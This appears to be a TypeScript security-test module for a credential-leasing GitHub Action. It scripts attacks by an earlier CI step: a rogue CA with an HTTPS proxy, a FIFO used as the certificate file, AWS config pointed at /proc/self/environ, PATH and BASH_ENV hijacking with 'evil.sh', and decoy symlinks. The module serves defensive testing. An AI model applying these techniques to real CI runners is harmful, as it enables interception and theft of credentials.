/**
 * Attacker 2: code in an earlier step of the same job, as the same user.
 *
 * Foothold: a dependency, an action or a script that runs before this action.
 * Can: set variables and PATH for later steps; write files, links and FIFOs anywhere that the job's
 * user may write (RUNNER_TEMP, the workspace, the home and temp directories); own a server, an
 * authority and a proxy on the internet.
 * Cannot: know what has not been leased yet, or change what the runner itself sets for a step. With
 * `id-token: write` it can request ID tokens of its own: no action can prevent that, and no attack
 * here needs it.
 */
import { execFileSync } from 'node:child_process'
import {
  chmodSync,
  closeSync,
  constants,
  mkdirSync,
  mkdtempSync,
  openSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs'
import { homedir } from 'node:os'
import { join } from 'node:path'
import type { FileName } from '../lab/step-files.ts'
import type { Places, Plot } from './play.ts'
import type { Premises } from './premises.ts'

/** All that this attacker has. */
export interface EarlierStep {
  readonly premises: Premises
  /** RUNNER_TEMP, the workspace, the home directory, and files of somebody else. */
  readonly place: Places
  /** Appends to a command file of its own step: GITHUB_ENV, GITHUB_PATH. */
  write(file: FileName, text: string): void
}

interface Attack extends Omit<Plot, 'before'> {
  readonly act: (attacker: EarlierStep) => void
}

/** The path at which attacks put a FIFO, below the home directory. */
const FIFO = 'authorities.pem'
/** Directories outside the job's own, which all lie in the system's temporary directory. */
const made: string[] = []
const RUN = 'lease-credentials-1658821493-1'

const attacks: readonly Attack[] = [
  {
    title: 'brings an authority in the workspace, by a path through /dev/fd, and a proxy',
    act(attacker) {
      writeFileSync(join(attacker.place.workspace, 'ca.pem'), attacker.premises.authority)
      trust(attacker, '/dev/fd/../cwd/ca.pem')
    },
  },
  {
    title: 'brings an authority in the workspace, by a path behind a link, and a proxy',
    act(attacker) {
      const { workspace, home } = attacker.place
      mkdirSync(join(workspace, 'deep'))
      writeFileSync(join(workspace, 'ca.pem'), attacker.premises.authority)
      symlinkSync(join(workspace, 'deep'), join(home, 'link'))
      trust(attacker, `${home}/link/../ca.pem`)
    },
  },
  {
    title: 'brings an authority in RUNNER_TEMP, and a proxy',
    act(attacker) {
      const path = join(attacker.place.temp, 'ca.pem')
      writeFileSync(path, attacker.premises.authority)
      trust(attacker, path)
    },
  },
  {
    title: 'brings an authority in an ordinary directory of its user, and a proxy',
    act(attacker) {
      const directory = mkdtempSync(join(homedir(), '.attacker-'))
      made.push(directory)
      writeFileSync(join(directory, 'ca.pem'), attacker.premises.authority)
      trust(attacker, join(directory, 'ca.pem'))
    },
    cleanUp() {
      for (const directory of made.splice(0)) rmSync(directory, { recursive: true })
    },
  },
  {
    title: 'brings a directory of authorities of the system with a link in it, and a proxy',
    act(attacker) {
      const directory = join(attacker.place.home, 'certs')
      const path = join(attacker.place.workspace, 'ca.pem')
      mkdirSync(directory)
      writeFileSync(path, attacker.premises.authority)
      symlinkSync(path, join(directory, '0.pem'))
      attacker.write('env', `NODE_USE_SYSTEM_CA=1\nSSL_CERT_DIR=${directory}\n`)
      attacker.write('env', `HTTPS_PROXY=${attacker.premises.proxy}\n`)
    },
  },
  {
    title: 'names a FIFO as the file of authorities',
    limit: 12,
    act({ place, write }) {
      execFileSync('mkfifo', [join(place.home, FIFO)])
      write('env', `NODE_EXTRA_CA_CERTS=${join(place.home, FIFO)}\n`)
    },
    rescue: ({ home }) => release(join(home, FIFO)),
  },
  {
    title: 'makes the existing AWS files name the environment of the process',
    only: ['aws', 'aws at another STS'],
    target: 'profile',
    act: ({ write }) =>
      write(
        'env',
        'AWS_CONFIG_FILE=/proc/self/environ\nAWS_SHARED_CREDENTIALS_FILE=/proc/self/environ\n',
      ),
  },
  {
    title: 'puts programs into PATH and code into files that shells and Node read',
    act({ place, write }) {
      const bin = join(place.home, 'bin')
      const script = `#!/bin/sh\necho pwned >> '${join(place.victim, 'config')}'\n`
      mkdirSync(bin)
      for (const name of ['node', 'git', 'sh', 'bash', 'aws', 'curl']) {
        writeFileSync(join(bin, name), script)
        chmodSync(join(bin, name), 0o755)
      }
      writeFileSync(join(place.home, 'evil.sh'), script)
      write('path', `${bin}\n`)
      write('env', `BASH_ENV=${join(place.home, 'evil.sh')}\nENV=${join(place.home, 'evil.sh')}\n`)
      write('env', `HOME=${join(place.home, 'bin')}\nTMPDIR=${place.workspace}\n`)
    },
  },
  {
    title: 'lays links in RUNNER_TEMP that look like leftovers of this action',
    act({ place }) {
      symlinkSync(place.victim, join(place.temp, `${RUN}-0123456789abcdef`))
      const directory = join(place.temp, `${RUN}-fedcba9876543210`)
      mkdirSync(directory)
      symlinkSync(join(place.victim, 'record.jsonl'), join(directory, 'record.jsonl'))
    },
  },
  {
    title: 'names a directory of compiled code that Node would run',
    mustRefuse: true,
    act: ({ place, write }) => write('env', `NODE_COMPILE_CACHE=${join(place.home, 'cache')}\n`),
  },
]

function trust({ premises, write }: EarlierStep, path: string): void {
  write('env', `NODE_EXTRA_CA_CERTS=${path}\nHTTPS_PROXY=${premises.proxy}\n`)
}

/** Gives whoever waits for a FIFO its end. */
export function release(path: string): void {
  try {
    closeSync(openSync(path, constants.O_WRONLY | constants.O_NONBLOCK))
  } catch {
    // Nobody waits for it.
  }
}

/** The attacks of an earlier step as plots. */
export const earlierSteps: readonly Plot[] = attacks.map(({ act, ...plot }) => ({
  ...plot,
  before: ({ attacker: premises, job }, place) =>
    job.run(({ write }) => act({ premises, place, write }), { id: 'attacker' }),
}))
